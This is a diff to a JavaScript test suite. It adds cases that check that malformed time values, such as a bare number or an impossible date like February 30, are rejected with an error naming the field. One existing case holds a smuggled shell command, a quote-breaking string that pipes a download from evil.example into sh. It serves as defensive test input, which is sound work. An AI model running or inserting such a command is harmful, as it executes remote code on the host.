@@ -161,6 +161,9 @@ describe('a message that waits in the ledger', () => {
     ['a user that is none', { userId: 'alice' }],
     ['a key that is none', { accessKeyIds: ["x'; curl https://evil.example | sh #"] }],
     ['a kept key that is none', { keptAccessKeyId: 'https://evil.example' }],
+    ['a number for a time', { time: '1' }],
+    ['a day that no calendar has', { time: '2026-02-30T00:00:00.000Z' }],
+    ['a time as no function writes it', { time: '2026-11-21T12:00:00+02' }],
   ])('with %s is not told, and the error names the item', async (_title, changed) => {
     const { answer, mail } = await digestOf(changed);
     expect(answer.error).toMatch(
